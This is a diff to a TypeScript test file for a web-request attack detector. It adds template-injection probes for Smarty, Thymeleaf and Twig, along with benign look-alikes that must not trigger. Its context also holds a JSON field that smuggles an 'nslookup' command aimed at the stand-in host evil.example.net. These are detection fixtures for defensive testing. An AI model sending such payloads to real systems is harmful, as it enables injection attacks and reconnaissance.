@@ -2,8 +2,9 @@
  * The smaller classes, third round (branch i18-small, docs/detection.md "The smaller classes, third
  * round"): code-execution languages of exploit requests that the nuclei and fuzzdb folds showed
  * missed, each read from its own grammar: Exim's string expansion, Groovy's Grape annotations,
- * H2's code definitions and init scripts, a reconnaissance program alone as the whole value, and
- * PHP's self-report function handed over as a callback. Every attack example here failed before
+ * H2's code definitions and init scripts, a reconnaissance program alone as the whole value,
+ * PHP's self-report function handed over as a callback, Python's object-graph walk, the strings of
+ * a JSON parameter, and template expressions of Smarty, Thymeleaf and Twig. Every attack example here failed before
  * this round; the benign look-alikes beside them stay quiet. Where: `q` a query value, `ua` the
  * User-Agent, `json`/`form` a field of that body, `path` a whole request target (helpers.ts).
  */
@@ -21,7 +22,7 @@ const classes = (where: Where, v: string): AttackClass[] => classesOf(at(where, 
 /** A request whose Host header is `v` (PHPMailer builds its sender from the host name). */
 const withHost = (v: string): TxSpec => ({ target: '/wp-login.php?action=lostpassword', headers: [['Host', v], BROWSER] });
 
-const ATTACKS: Array<[string, Where | 'host', string]> = [
+const ATTACKS: Array<[string, Where | 'host', string, AttackClass?]> = [
   // Exim string expansion: an operator that runs, reads or spells a path out of a variable.
   [
     "PHPMailer's sender: run through substr of a variable, in the Host header",
@@ -67,6 +68,11 @@ const ATTACKS: Array<[string, Where | 'host', string]> = [
     'form',
     '[{"PASSWORD":"asd\\r\\nnslookup.exe evil.example.net 1.1.1.1","PORT":"80"}]',
   ],
+  // ssti: template expressions of engines the reader did not know.
+  ["Smarty's single brace given a product", 'q', '{7*7}', 'ssti'],
+  ['Smarty after a break-out', 'q', "'>{7*'7'}", 'ssti'],
+  ["Thymeleaf's fragment expression", 'q', '~{7*7}', 'ssti'],
+  ["Twig's dump of the application", 'q', '{{dump(app)}}', 'ssti'],
 ];
 
 const BENIGN: Array<[string, Where | 'host', string]> = [
@@ -91,14 +97,18 @@ const BENIGN: Array<[string, Where | 'host', string]> = [
   ["a class's name", 'q', 'def __init__(self):\n    print(self.__class__.__name__)'],
   ["a tutorial's method resolution order", 'q', 'print(A.__mro__, A.__bases__)'],
   ['__import__ of a module alone', 'q', "__import__('math')"],
+  ['a set of numbers in a sentence', 'q', 'the set {2*3} of numbers'],
+  ['a superscript', 'q', 'x^{2*3}'],
+  ['a Thymeleaf fragment reference', 'q', '~{fragment :: header}'],
+  ['a dump call outside a template', 'q', 'dump(x)'],
   ['a JSON parameter with a line break in a note', 'form', '[{"note":"line one\\r\\nline two","n":1}]'],
 ];
 
 const spec = (where: Where | 'host', v: string): TxSpec => (where === 'host' ? withHost(v) : at(where, v));
-for (const [name, where, v] of ATTACKS) {
-  test(`rce: ${name}`, () => {
+for (const [name, where, v, cls = 'rce'] of ATTACKS) {
+  test(`${cls}: ${name}`, () => {
     const got = classesOf(spec(where, v));
-    assert.ok(got.includes('rce'), `${where} ${JSON.stringify(v)} -> ${got.join(',')}`);
+    assert.ok(got.includes(cls), `${where} ${JSON.stringify(v)} -> ${got.join(',')}`);
   });
 }
 for (const [name, where, v] of BENIGN) {
